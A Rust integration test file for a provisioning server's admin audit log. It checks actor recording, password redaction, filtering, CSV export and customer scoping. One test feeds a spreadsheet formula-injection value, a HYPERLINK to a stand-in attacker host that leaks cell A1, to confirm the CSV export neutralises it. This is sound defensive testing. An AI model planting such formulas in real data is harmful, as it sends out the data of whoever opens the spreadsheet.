//! The audit log: every change through the admin API, with its token, role, address, object,
//! customer and fields (secrets redacted), filtered by object, customer and time, as JSON and
//! CSV; a customer's token reads only its customer's entries.

use std::process::Output;

use serde_json::Value;
use ztp_tests::{Server, success, temp_dir};

const PASSWORD: &str = "s3cret-nms-password";

fn json(output: Output) -> Value {
    serde_json::from_str(&success(output)).unwrap()
}

#[test]
fn every_change_is_in_the_audit_log_with_its_actor_and_no_secret() {
    let dir = temp_dir();
    let server = Server::start(dir.path());
    let created = json(server.admin(["token", "create", "ops", "--role", "manufacturer-admin"]));
    let (token, id) = (
        created["token"].as_str().unwrap(),
        created["id"].as_str().unwrap(),
    );
    let password = dir.path().join("password");
    std::fs::write(&password, PASSWORD).unwrap();
    success(server.admin_as(
        token,
        [
            "nms",
            "add",
            "example-customer",
            "main",
            "--host",
            "127.0.0.1",
            "--user",
            "ztp",
            "--pin",
            "SHA256:uNiVztksCsDhcc0u9e8BujQXVUpKZIDTMczCvj3tD2s",
            "--password-file",
            password.to_str().unwrap(),
            "--policy",
            "off",
        ],
    ));
    success(server.admin_as(token, ["customer", "add", "acme"]));
    success(server.admin_as(token, ["device", "remove", "SN-0003"]));
    // Reading changes nothing and is not recorded.
    success(server.admin_as(token, ["device", "list"]));

    let entries = json(server.admin(["audit", "--limit", "100"]));
    let mine: Vec<&Value> = entries
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["token"] == id)
        .collect();
    assert_eq!(mine.len(), 3, "{entries:#}");
    let nms = mine[0];
    assert_eq!(nms["role"], "manufacturer-admin");
    assert_eq!(nms["action"], "create");
    assert_eq!(nms["object"], "/customers/example-customer/nms");
    assert_eq!(nms["object_kind"], "nms-connection");
    assert_eq!(nms["customer"], "example-customer");
    assert!(nms["peer"].as_str().unwrap().starts_with("127.0.0.1:"));
    assert_eq!(nms["fields"]["password"], "[redacted]");
    assert_eq!(nms["fields"]["host"], "127.0.0.1");
    assert!(
        nms["summary"]
            .as_str()
            .unwrap()
            .contains("added NMS connection")
    );
    let removed = mine[2];
    assert_eq!(
        (&removed["action"], &removed["object"], &removed["customer"]),
        (
            &Value::from("delete"),
            &Value::from("/devices/SN-0003"),
            &Value::from("example-customer")
        ),
        "the owner of a deleted device is on record"
    );

    // Filters and CSV; no secret anywhere.
    let acme = json(server.admin(["audit", "--customer", "acme"]));
    assert_eq!(acme.as_array().unwrap().len(), 1, "{acme:#}");
    let nms_only = json(server.admin(["audit", "--object", "/customers/example-customer/nms"]));
    assert_eq!(nms_only.as_array().unwrap().len(), 1);
    let later = json(server.admin(["audit", "--since", "2999-01-01"]));
    assert_eq!(later, serde_json::json!([]));
    let csv = success(server.admin(["audit", "--csv"]));
    assert!(csv.starts_with("id,at,token,role,peer,action,object,object_kind,customer"));
    assert!(csv.contains(",/customers,customer,acme,"), "{csv}");
    assert!(!csv.contains(PASSWORD), "{csv}");
    let all = success(server.admin(["audit"]));
    assert!(!all.contains(PASSWORD));

    // A customer's token reads its customer's entries only.
    let scoped = json(server.admin([
        "token",
        "create",
        "ex",
        "--role",
        "read-only",
        "--customer",
        "example-customer",
    ]));
    let seen = json(server.admin_as(scoped["token"].as_str().unwrap(), ["audit"]));
    assert!(
        seen.as_array()
            .unwrap()
            .iter()
            .all(|e| e["customer"] == "example-customer"),
        "{seen:#}"
    );
}

#[test]
fn the_audit_csv_shows_a_hostile_customer_filter_as_text() {
    let dir = temp_dir();
    let server = Server::start(dir.path());
    let hostile = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"open\")";
    success(server.admin(["registration", "retry", "--dead", "--customer", hostile]));

    let csv = success(server.admin(["audit", "--csv"]));
    let cells = super::csv_cells(&csv);
    let retry = cells
        .iter()
        .find(|row| row.get(6).is_some_and(|o| o == "/registrations/retry"))
        .unwrap_or_else(|| panic!("the retry is recorded: {csv}"));
    assert_eq!(retry[8], format!("'{hostile}"), "{csv}");
    assert_eq!(super::formula_cells(&csv), Vec::<String>::new(), "{csv}");
}
